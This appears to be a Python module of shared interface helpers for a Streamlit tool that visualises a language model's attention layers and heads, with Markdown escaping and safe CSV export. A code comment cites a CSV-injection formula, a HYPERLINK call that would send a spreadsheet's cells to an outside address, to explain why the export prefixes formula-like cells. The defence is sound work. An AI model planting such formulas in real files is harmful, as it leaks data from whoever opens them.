"""Pieces several pages draw: charts, tables, the layer and head sliders, word pickers.

User text reaches the page only through widgets, ``st.text``/``st.code``, dataframes, escaped
Plotly labels, or Markdown after ``plain()``; never as HTML.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import streamlit as st

from viz.analysis.mlm import content_word
from viz.errors import UserError
from viz.figures.common import Words
from viz.tokens import word_groups, word_texts
from viz.trace import Trace
from viz.ui import state
from viz.ui.cached import unknown_tokens
from viz.ui.i18n import error_text, has, tr

MARKDOWN_SPECIAL = set("\\`*_{}[]()#+-.!|<>$~:")

# The open layer and head: shared by the attention, layers and math pages and the address.
LAYER = state.widget("layer", link=state.NUMBER, clamp=state.layers_from(1))
HEAD = state.widget("head", link=state.NUMBER, clamp=state.heads_in_range)
AVERAGE = state.widget("average", link=state.FLAG)
IMAGE_FORMATS = ("png", "svg")
IMAGE_FORMAT = state.widget("image_format", link=state.choice(IMAGE_FORMATS))  # in the sidebar


def plain(text: str) -> str:
    """Escape Markdown (and LaTeX/HTML-looking) characters so user text shows as typed."""
    return "".join("\\" + c if c in MARKDOWN_SPECIAL else c for c in text)


def chart(fig, key: str | None = None, **kwargs) -> object:
    fmt = st.session_state.get(IMAGE_FORMAT, "png")
    config = {"displaylogo": False, "toImageButtonOptions": {"format": fmt, "scale": 2}}
    return st.plotly_chart(fig, config=config, key=key, width="stretch", **kwargs)


def column_labels(frame: pd.DataFrame) -> dict[str, str]:
    """Shown names of a table's columns (the data and CSVs keep English names)."""
    return {c: tr(f"col_{c}") for c in frame.columns if has(f"col_{c}")}


def table(frame: pd.DataFrame, target=None, right: tuple[str, ...] = (), **kwargs) -> object:
    """``st.dataframe`` with translated column names; the columns ``right`` aligned right (a
    keyword's left context: a cell too narrow then drops the far end, not the words beside
    the keyword)."""
    config: dict = column_labels(frame)
    for c in right:
        if c in frame.columns:
            config[c] = st.column_config.TextColumn(config.get(c, c), alignment="right")
    return (target or st).dataframe(frame, column_config=config, **kwargs)


def layer_head_controls(
    t: Trace, with_head: bool = True, all_heads: bool = False, layer_slider=None
) -> tuple[int, int]:
    """Layer and head sliders, 0-based values returned; the head slider is off while the heads
    are averaged (``all_heads``). ``layer_slider``: draws the layer slider instead of
    Streamlit's (it keeps ``LAYER`` itself)."""
    f = t.facts
    cols = st.columns([3, 3, 2, 2, 2]) if with_head else st.columns([3, 3])
    with cols[0]:
        if layer_slider is None:
            st.slider(tr("layer"), 1, f.num_layers, key=LAYER)
        else:
            layer_slider()
    if with_head:
        with cols[1]:
            st.slider(
                tr("head"),
                1,
                f.num_heads,
                key=HEAD,
                disabled=all_heads,
            )
    return st.session_state[LAYER] - 1, st.session_state[HEAD] - 1


def clicked_head(chart_key: str) -> tuple[int, int] | None:
    """(layer, head), 1-based, of the point clicked in a chart whose points carry them first in
    their customdata; None when nothing is selected."""
    try:
        points = st.session_state[chart_key].selection.points
        data = points[0].get("customdata") if points else None
        if isinstance(data, dict):  # Plotly may send an array as {"0": .., "1": ..}
            data = [data[k] for k in sorted(data, key=int)]
        if isinstance(data, list | tuple) and len(data) >= 2:
            return int(data[0]), int(data[1])
    except (AttributeError, IndexError, KeyError, TypeError, ValueError):
        pass  # a selection this page never sent (a forged message): ignored
    return None


def open_head(layer: int, head: int) -> None:
    """Go to the attention page at this layer and head (1-based)."""
    st.session_state.update({LAYER: layer, HEAD: head, "view": "attention"})


def word_names(t: Trace) -> list[str]:
    """One label per word group of ``t``, from the text it covers; a word with a piece the
    vocabulary lacks keeps the →[UNK] mark of its pieces."""
    groups = word_groups(t.word_ids)
    labels = word_texts(groups, t.display_tokens, t.offsets, t.segment_ids, t.text, t.pair)
    unknown, unk = unknown_tokens(t)
    return [f"{name}→{unk}" if unknown[g].any() else name for name, g in zip(labels, groups)]


def word_choices(t: Trace) -> tuple[list[int], list[str]]:
    """The word groups a user may pick (special tokens left out) and every group's label."""
    groups = word_groups(t.word_ids)
    labels = word_names(t)
    keep = [i for i, g in enumerate(groups) if not t.special[g[0]]]
    return keep, labels


def percent(p: float) -> str:
    """A probability as a percentage with three significant digits: 12.3%, 0.00327%."""
    return f"{p * 100:.3g}%"


def second_sentence_start(t: Trace, positions: np.ndarray) -> int | None:
    """Index among the shown ``positions`` where a pair's second sentence starts, or None."""
    if t.pair is None:
        return None
    second = np.flatnonzero(t.segment_ids[positions] == 1)
    return int(second[0]) if len(second) else None


def figure_words() -> Words:
    """The words figures need besides their titles, in the bound language."""
    return Words(
        query=tr("w_query"),
        key=tr("w_key"),
        layer=tr("w_layer"),
        head=tr("w_head"),
        js_distance=tr("w_js"),
        norm=tr("w_norm"),
        update_ratio=tr("w_update"),
    )


def message(err: Exception) -> str:
    """An error's message in the bound language, escaped for Markdown."""
    return plain(error_text(err) if isinstance(err, UserError) else str(err))


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, CSV injection):
# =HYPERLINK("http://…/?leak="&A1) in an uploaded text would send the sheet's cells away.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(cell: object) -> object:
    """A text cell a spreadsheet shows rather than runs: one that starts like a formula gets a
    leading single quote, which the spreadsheet hides. Numbers stay numbers, a text that is a
    plain number ('-1') too."""
    if isinstance(cell, str) and cell.startswith(FORMULA_START):
        return cell if PLAIN_NUMBER.fullmatch(cell) else "'" + cell
    return cell


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """A table as the CSV every download offers: UTF-8 with a byte-order mark, so Excel reads
    Chinese text as Chinese rather than as mojibake; every text cell spreadsheet-safe; rows end
    in CR LF (RFC 4180), so a cell holding a lone CR is quoted rather than splitting its row."""
    text = [c for c in frame.columns if pd.api.types.is_string_dtype(frame[c].dtype)]
    if text:
        frame = frame.assign(**{c: frame[c].map(spreadsheet_safe) for c in text})
    return frame.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def word_to_mask(t: Trace) -> int:
    """The word group the MLM pickers start on: the first content word (not a stop word or
    punctuation, not read as the unknown token), as ``viz.analysis.mlm.content_word`` picks."""
    groups = word_groups(t.word_ids)
    words = word_texts(groups, t.display_tokens, t.offsets, t.segment_ids, t.text, t.pair)
    keep, _ = word_choices(t)
    unknown, _ = unknown_tokens(t)
    return content_word(words, keep, avoid=[i for i in keep if unknown[groups[i]].any()])


def word_picker(label: str, t: Trace, key: str) -> int:
    """A box of the words to mask, starting on ``word_to_mask``; a word from the address or an
    earlier sentence that is not one of this text's words is replaced by that start."""
    keep, labels = word_choices(t)
    if st.session_state.get(key) not in keep:
        st.session_state[key] = word_to_mask(t)
    return st.selectbox(label, keep, key=key, format_func=lambda i: labels[i])


def masked_text(t: Trace, word: int, mask: str) -> str:
    """The input as the model reads it with word group ``word`` replaced by ``mask``, escaped
    for Markdown, the mask as inline code (a pair reads 'text ‖ pair'). Code, not bold: ``**``
    between two Chinese characters is not emphasis in Markdown, a code span is anywhere."""
    group = word_groups(t.word_ids)[word]
    start, end = int(t.offsets[group[0], 0]), int(t.offsets[group[-1], 1])
    in_pair = t.pair is not None and t.segment_ids[group[0]] == 1
    parts = [t.text, *([t.pair] if t.pair is not None else [])]
    i = 1 if in_pair else 0
    source = parts[i]
    fence = "`" * (max((len(r) for r in re.findall("`+", mask)), default=0) + 1)
    parts[i] = f"{plain(source[:start])}{fence}{mask}{fence}{plain(source[end:])}"
    for j in range(len(parts)):
        if j != i:
            parts[j] = plain(parts[j])
    return " ‖ ".join(parts)
